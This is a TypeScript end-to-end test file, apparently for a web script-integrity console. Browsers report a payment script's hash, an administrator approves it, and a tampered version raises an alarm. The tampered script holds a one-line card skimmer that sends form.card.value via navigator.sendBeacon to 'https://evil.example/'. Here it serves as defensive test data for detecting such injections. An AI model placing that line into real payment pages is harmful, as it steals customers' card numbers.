/** Integrity before the real server: browsers report, an administrator approves a page, an altered script is an alarm. */
import assert from 'node:assert/strict'
import { createHash, randomUUID } from 'node:crypto'
import { existsSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { resolve } from 'node:path'
import { after, before, test } from 'node:test'
import type { InventoryScript } from '@candor/protocol/integrity-api.ts'
import type { Browser, Page } from 'playwright-core'
import { build } from 'vite'
import { launchBrowser } from '../../server/test/chromium.ts'
import { TestPlatform, type TestTenant } from '../../server/test/test-platform.ts'

let browser: Browser
let platform: TestPlatform
let shop: Server
let site: string
/** What the shop serves now as `/pay.js`. */
let payScript = ''

before(async () => {
  // The server serves what `npm start` and `npm test` have built. Never built anew beside other tests that read it.
  const root = resolve(import.meta.dirname, '..')
  if (!existsSync(resolve(root, 'dist/index.html'))) await build({ root, logLevel: 'error' })
  shop = createServer((_, response) => response.setHeader('content-type', 'text/javascript').end(payScript))
  await new Promise<void>((done) => shop.listen(0, '127.0.0.1', done))
  site = `http://127.0.0.1:${(shop.address() as AddressInfo).port}`
  platform = await TestPlatform.start({ config: { trustProxy: true, privateOrigins: [site] } })
  browser = await launchBrowser()
})
after(async () => {
  await browser?.close()
  await platform?.stop()
  await TestPlatform.end()
  shop?.close()
})

async function signInAs(
  tenant: TestTenant,
  role: 'supervisor' | 'administrator' | 'agent',
  path: string,
): Promise<Page> {
  const context = await browser.newContext({
    viewport: { width: 1440, height: 900 },
    reducedMotion: 'reduce',
    locale: 'en-US',
  })
  const page = await context.newPage()
  page.on('pageerror', (error) => assert.fail(error.message))
  await page.goto(platform.url + path)
  await page.getByLabel('E-mail address').fill(tenant.people[role].email)
  await page.getByLabel('Password').fill(tenant.password)
  await page.keyboard.press('Enter')
  return page
}

/** A visitor of this network opens the payment page: its loader reports, and its browser the hash of what it ran. */
async function visit(tenant: TestTenant, network: number): Promise<void> {
  const headers = { 'x-forwarded-for': `198.18.${network}.7`, 'user-agent': 'Mozilla/5.0 Chrome' }
  const view = await fetch(`${platform.url}/v1/page-views`, {
    method: 'POST',
    headers: { ...headers, 'content-type': 'text/plain;charset=UTF-8', origin: site },
    body: JSON.stringify({
      t: tenant.slug,
      v: randomUUID(),
      n: randomUUID(),
      u: `${site}/pay`,
      c: false,
      // The loader in force: another one would be an alarm of its own.
      l: platform.url + (platform.candor.releases.loader()?.path ?? '/w/loader.js'),
      i: true,
      m: '',
      s: [`${site}/pay.js`],
      e: '',
    }),
  })
  assert.equal(view.status, 204)
  const report = await fetch(`${platform.url}/v1/reports/${tenant.slug}`, {
    method: 'POST',
    headers: { ...headers, 'content-type': 'application/reports+json' },
    body: JSON.stringify([
      {
        age: 0,
        type: 'csp-hash',
        url: `${site}/pay`,
        user_agent: headers['user-agent'],
        body: {
          documentURL: `${site}/pay`,
          subresourceURL: `${site}/pay.js`,
          hash: `sha256-${createHash('sha256').update(payScript).digest('base64')}`,
          destination: 'script',
          type: 'subresource',
        },
      },
    ]),
  })
  assert.equal(report.status, 204)
  await platform.candor.observations.flush()
  await platform.candor.integrity.settled()
}

test('what visitors’ browsers report is approved in the console, and an altered script is an alarm there by itself', async () => {
  const tenant = await platform.tenant()
  await platform.candor.tenants.addSite(tenant.id, site)
  const page = await signInAs(tenant, 'administrator', '/desk/integrity/overview')
  await page.getByText('Nothing is seen yet').waitFor()
  await page.getByText(`candor="${platform.url}/v1/reports/${tenant.slug}"`).waitFor()

  payScript = 'function pay(form) {\n  form.submit()\n}\n'
  for (const network of [1, 2, 3]) await visit(tenant, network)
  await page.getByText('1 script waits for a first decision').waitFor()
  await page.getByRole('link', { name: `${site}/pay` }).click()
  await page.getByRole('button', { name: 'Approve all of them…' }).click()
  const all = page.getByRole('dialog')
  await all.getByRole('textbox', { name: 'Owner of those that have none' }).fill('Web team')
  await all.getByRole('textbox', { name: 'Why they belong there' }).fill('The payment form')
  await all.getByRole('button', { name: 'Approve 1 script' }).click()
  await page.getByText('Approved. From now on anything else').waitFor()
  await page.getByText('Web team').waitFor()
  await page.getByRole('link', { name: 'Overview' }).click()
  await page.getByText('Your page runs only what was approved').waitFor()

  await page.getByRole('link', { name: 'Alarms' }).click()
  await page.getByText('No alarm is open.').waitFor()
  payScript =
    'function pay(form) {\n  navigator.sendBeacon("https://evil.example/", form.card.value)\n  form.submit()\n}\n'
  await visit(tenant, 4)
  const alarm = page.getByRole('region', { name: 'The alarm' })
  await alarm.getByRole('heading', { name: 'Known script, new content' }).waitFor()
  await alarm.getByText('and the server fetched the very content itself').waitFor()
  await alarm.getByRole('region', { name: 'Captured content' }).getByText('https://evil.example/').waitFor()
  await alarm.getByRole('link', { name: 'Compare with what was approved' }).click()
  await page.getByText('1 change').waitFor()
  await page
    .getByRole('region', { name: 'Both contents' })
    .getByText('navigator.sendBeacon("https://evil.example/", form.card.value)')
    .waitFor()
  await page.getByRole('button', { name: 'Refuse…' }).click()
  await page
    .getByRole('textbox', { name: 'Why it does not belong there' })
    .fill('It sends card numbers away.')
  await page.getByRole('dialog').getByRole('button', { name: 'Refuse' }).click()
  await page.getByText('Refused. It stays an alarm while it runs.').waitFor()
  const listed = await platform.request(tenant, 'GET', '/v1/integrity/scripts')
  const [script] = listed.body['items'] as InventoryScript[]
  assert.deepEqual(
    [script!.owner, script!.hashes.map(({ state }) => state)],
    ['Web team', ['approved', 'refused']],
  )

  await page.getByRole('link', { name: 'Alarms' }).click()
  await alarm.getByRole('heading', { name: 'Known script, new content' }).waitFor()
  await page.keyboard.press('d')
  await page.getByRole('textbox', { name: 'Why it needs nothing' }).fill('It is taken off the page.')
  await page.getByRole('dialog').getByRole('button', { name: 'Dismiss', exact: true }).click()
  await page.getByText('Dismissed. Should it come again').waitFor()
  await page.getByRole('button', { name: 'Dismissed' }).click()
  await alarm.getByText('“It is taken off the page.”').waitFor()

  await page.getByRole('link', { name: 'Evidence' }).click()
  for (const name of ['For a spreadsheet (CSV)', 'For a program (JSON)', 'Report of these days']) {
    const [file] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name }).click(),
    ])
    assert.match(file.suggestedFilename(), /^(scripts|changes)-\d{4}/)
  }
  await page.context().close()
})

test('the server shows a supervisor what it shows, and an agent nothing', async () => {
  const tenant = await platform.tenant()
  const supervisor = await signInAs(tenant, 'supervisor', '/desk/integrity/alarms')
  await supervisor.getByText('No alarm is open.').waitFor()
  await supervisor.context().close()
  const agent = await signInAs(tenant, 'agent', '/desk/integrity/alarms')
  await agent.getByText('Your role does not look in here').waitFor()
  assert.equal(await agent.evaluate(async () => (await fetch('/v1/integrity')).status), 403)
  await agent.context().close()
})
